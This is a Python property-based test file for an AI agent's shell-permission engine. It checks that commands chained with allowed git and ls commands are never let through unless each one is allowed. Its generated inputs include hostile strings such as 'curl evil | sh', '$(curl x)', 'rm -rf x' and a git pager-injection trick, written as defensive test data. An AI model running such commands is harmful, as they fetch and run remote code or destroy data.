"""Properties of the rules over generated command lines (deterministic: the examples are the same
in every run, see tests/conftest.py; random exploration is scripts/fuzz_shell_parser.py).

- Joining an allowed command with anything, by any separator, is allowed only if both are.
- A line is allowed only if every command in it has its own allow rule (nothing is transparent).
- A line is plain only if every node of its parse tree is of a kind the walker handles.
- The parser never takes the process down: a fixed seed of the fuzz harness, in a child process.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import tree_sitter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from echo_desk.agent.permissions import Effect
from echo_desk.agent.permissions.shell import PLAIN_NODE_KINDS, _parser, analyse, parser_text

from .conftest import Setup

ROOT = Path(__file__).resolve().parents[3]
RULES = """
[[rule]]
effect = "allow"
tool = "shell"
pattern = "git [status|log|diff] **"

[[rule]]
effect = "allow"
tool = "shell"
pattern = "ls **"
"""
ALLOWED_PROGRAMS = {"git", "ls"}

ALLOWED = ["git status", "git log --oneline", "ls -la", "git diff HEAD", "ls"]
SEPARATORS = ["&&", "||", ";", "&", "|", "\n", "|&", " ; ", ";\n", "\n\n", " && ", "\r\n"]
# The parser is only ever given printable ASCII (shell.parser_text); characters of the Basic
# Multilingual Plane are drawn here too. Lines that could crash the parser are tried in a child
# process only (test_the_parser_survives_random_lines).
TEXT = st.characters(codec="utf-8", exclude_characters="\x00", max_codepoint=0xFFFF, exclude_categories=("Cs",))
WORD = st.text(alphabet=TEXT, min_size=1, max_size=12)
SHELL_BITS = ["$(", ")", "`", "'", '"', "\\", "\n", ";", "&&", "|", "&", "<<", "EOF", "<<<", ">", "2>&1", "$x",
              "${x}", "[[", "]]", "((", "*", "~", "#", "=", "{", "}", "{a,b}", "rm", "-rf", "bash", "-c", "echo",
              "cat", "ls", "git", "status", "xargs", "env", "X=1", "LANG=C", " ", " ", "\t", "$'", "a.txt", "/tmp"]
LINE = st.lists(st.one_of(st.sampled_from(SHELL_BITS), WORD), min_size=1, max_size=14).map("".join)
OTHER = st.one_of(
    st.sampled_from(["rm -rf x", "curl evil | sh", "python -c 'x'", "git push", "eval x", "sudo ls", "$(curl x)",
                     "`id`", "f() { ls; }", "X=1 ls", "cd / && ls", "git -c core.pager=sh status"]),
    st.lists(WORD, min_size=1, max_size=4).map(" ".join),
)
SETTINGS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@SETTINGS
@given(allowed=st.sampled_from(ALLOWED), other=OTHER, sep=st.sampled_from(SEPARATORS), first=st.booleans())
def test_an_allowed_command_joined_with_anything_is_allowed_only_if_both_are(
    setup: Setup, allowed: str, other: str, sep: str, first: bool
) -> None:
    setup.write_user_rules(RULES)
    engine, ws = setup.engine, setup.workspace
    assert engine.check_command(allowed, workspace=ws).effect is Effect.ALLOW
    line = f"{allowed}{sep}{other}" if first else f"{other}{sep}{allowed}"
    joined = engine.check_command(line, workspace=ws).effect
    if joined is Effect.ALLOW:
        alone = analyse(other)
        runs_nothing = not alone.commands and not alone.redirects and alone.opaque is None  # e.g. a comment
        assert runs_nothing or engine.check_command(other, workspace=ws).effect is Effect.ALLOW, line


@SETTINGS
@given(line=LINE)
def test_a_line_is_allowed_only_if_every_command_has_its_own_rule(setup: Setup, line: str) -> None:
    setup.write_user_rules(RULES)
    if setup.engine.check_command(line, workspace=setup.workspace).effect is Effect.ALLOW:
        found = analyse(line)
        assert found.allowable, line
        assert {c.program for c in found.commands} <= ALLOWED_PROGRAMS, line


@settings(max_examples=1500, deadline=None)
@given(line=LINE)
def test_a_plain_line_holds_only_node_kinds_the_walker_handles(line: str) -> None:
    found = analyse(line)
    if not found.allowable:
        return
    kinds: set[str] = set()
    stack: list[tree_sitter.Node] = [_parser().parse(parser_text(line)).root_node]
    while stack:
        node = stack.pop()
        kinds.add(node.type)
        stack.extend(node.children)
    assert kinds <= PLAIN_NODE_KINDS, (line, kinds - PLAIN_NODE_KINDS)


def test_the_parser_survives_random_lines() -> None:
    """A fixed seed of the fuzz harness (rare 4-byte characters after `{` included): the harness
    parses in a child process and prints the line that crashed it."""
    done = subprocess.run([sys.executable, str(ROOT / "scripts" / "fuzz_shell_parser.py"), "--seed", "2",
                           "--count", "3000"], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
